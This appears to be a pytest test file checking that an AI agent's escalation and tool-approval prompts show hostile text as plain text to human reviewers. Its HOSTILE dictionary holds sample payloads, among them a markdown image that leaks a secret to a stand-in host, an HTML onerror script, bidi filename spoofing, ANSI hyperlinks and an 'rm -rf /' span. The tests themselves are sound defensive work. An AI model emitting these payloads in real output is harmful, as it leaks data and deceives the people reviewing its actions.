"""The escalation as a chat UI shows it: every text of the interrupt value that a UI renders
as markdown is plain text when rendered (no link, image, tag, emphasis or heading, no
control, escape or bidi code), still reads as what it said, and what a UI sends back acts
as before."""

from __future__ import annotations

from typing import Any

import pytest

from agent.reflection.answers import choices, parse_answer, typed_choice
from agent.reflection.on_screen import on_screen
from agent.tools.approvals import approval_payload
from agent.vfs.quoting import clean_text
from tests.markup import CARD_LAYOUT, CONTROLS, assert_plain, rendered

HOSTILE = {
    "image": "![x](https://host.example/?d=secret)",
    "link": "[all checks passed](http://host.example/run)",
    "html": "<img src=https://host.example/a.png onerror=alert(1)> <b>ok</b>",
    "heading": "# PASSED: 12 of 12 tests",
    "bold": "**verdict: passed** _done_ ~~failed~~",
    "bidi": "report\u202egnp.exe \u2066x\u2069",
    "ansi": "\x1b[32mPASSED\x1b[0m \x1b]8;;http://host.example\x07here\x1b]8;;\x07",
    "autolink": "see www.host.example or <http://host.example> or me@host.example",
    "code": "`rm -rf /` then ```",
}


def escalation(text: str) -> dict[str, Any]:
    return {
        "question": clean_text(f"Step S1 keeps failing ({text}). How should it be fixed?", 1000),
        "reason": clean_text(f"repeated defect: {text}", 1000),
        "artifacts_ready_for_review": ["slugify.py"],
        "suggested_responses": choices([clean_text(text, 120), "stop here"]),
        "reflection_depth": 2,
        "stop_reason": "repeated_defect",
        "status": "awaiting_input",
    }


def _strings(value: Any, path: str = "") -> list[tuple[str, str]]:
    if isinstance(value, str):
        return [(path, value)]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in _strings(v, f"{path}.{k}")]
    if isinstance(value, list):
        return [s for i, v in enumerate(value) for s in _strings(v, f"{path}[{i}]")]
    return []


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_every_prose_field_of_the_interrupt_renders_as_plain_text(text):
    shown = on_screen(escalation(text))
    prose = {
        "question": shown["question"],
        "reason": shown["reason"],
        "label": shown["suggested_responses"][0]["label"],
        "card question": shown["action_requests"][0]["args"]["question"],
    }
    for field, value in prose.items():
        seen = assert_plain(value)
        assert seen.strip(), field
    # the words are still there to read: the question reads as the cleaned question does
    assert rendered(shown["question"])[1] == escalation(text)["question"]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_review_card_shows_the_question_as_text_and_paths_and_labels_as_code(text):
    card = on_screen(escalation(text))["action_requests"][0]
    kinds, _ = rendered(card["description"])
    # the card's own layout (bold headings, code spans, lists) and nothing of the artifact's
    assert set(kinds) <= CARD_LAYOUT, kinds
    first = card["description"].split("\n\n")[0]
    assert_plain(first)
    assert not any(c in card["description"] for c in CONTROLS)


def test_data_fields_are_kept_as_they_are_and_benign_text_is_unchanged():
    benign = escalation("the test expected a-b and got a b")
    shown = on_screen(benign)
    for key in (
        "question",
        "reason",
        "artifacts_ready_for_review",
        "reflection_depth",
        "stop_reason",
        "status",
        "suggested_responses",
    ):
        assert shown[key] == benign[key], key
    hostile = escalation(HOSTILE["image"])
    assert (
        on_screen(hostile)["suggested_responses"][0]["value"]
        == (hostile["suggested_responses"][0]["value"])
    )


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_label_sent_back_as_shown_or_as_read_still_names_its_choice(text):
    raw = escalation(text)
    label = raw["suggested_responses"][0]
    shown = on_screen(raw)["suggested_responses"][0]["label"]
    value = label["value"]
    assert typed_choice(label["label"], raw["suggested_responses"]) == value
    assert typed_choice(shown, raw["suggested_responses"]) == value
    assert parse_answer(shown, raw["suggested_responses"]) == parse_answer(value)


def test_an_approval_shows_its_question_and_descriptions_screened_and_keeps_its_arguments():
    request = {
        "id": "call-1",
        "tool": "send_email",
        "args": {"body": HOSTILE["image"]},
        "description": f"Send the report {HOSTILE['link']} {HOSTILE['ansi']}",
        "step_id": "S1",
    }
    payload = approval_payload([request])
    shown = on_screen(payload)
    assert_plain(shown["question"])
    (action,) = shown["action_requests"]
    assert_plain(action["description"])
    assert action["args"] == request["args"]  # the edit form starts from the real arguments
    assert [c["value"] for c in shown["suggested_responses"]] == [
        c["value"] for c in payload["suggested_responses"]
    ]
    assert shown["review_configs"] == payload["review_configs"]


def test_every_string_of_a_hostile_interrupt_value_is_free_of_control_codes():
    text = " ".join(HOSTILE.values())
    for where, value in _strings(on_screen(escalation(text))):
        assert not any(c in value for c in CONTROLS), where


def test_arguments_nobody_may_edit_are_shown_screened_and_editable_ones_exactly():
    hostile = {"body": HOSTILE["image"], "to": [HOSTILE["link"]], "count": 3}
    fixed = {"id": "c1", "tool": "post", "args": hostile, "step_id": "S1"}
    fixed["allowed_decisions"] = ["approve", "reject"]
    editable = {"id": "c2", "tool": "send_email", "args": hostile, "step_id": "S1"}
    shown = on_screen(approval_payload([fixed, editable]))
    post, email = shown["action_requests"]
    assert email["args"] == hostile  # the edit form starts from the real arguments
    assert post["args"]["count"] == 3
    for value in (post["args"]["body"], post["args"]["to"]):
        assert_plain(value)
    assert "host.example" in rendered(post["args"]["to"])[1]  # still readable
